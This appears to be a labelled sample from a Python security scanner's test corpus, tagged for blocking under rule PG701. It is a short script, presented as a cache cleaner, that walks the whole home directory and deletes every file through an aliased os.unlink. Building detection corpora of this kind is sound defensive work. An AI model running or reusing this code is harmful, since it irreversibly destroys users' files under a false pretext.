# pyguard-corpus: verdict=block category=filesystem rules=PG701
# what: "cleans caches" by walking the whole home directory and unlinking every file through an aliased os.unlink
import os
from os import unlink as discard

root = os.path.expanduser("~")
for folder, _dirs, files in os.walk(root):
    for name in files:
        discard(os.path.join(folder, name))
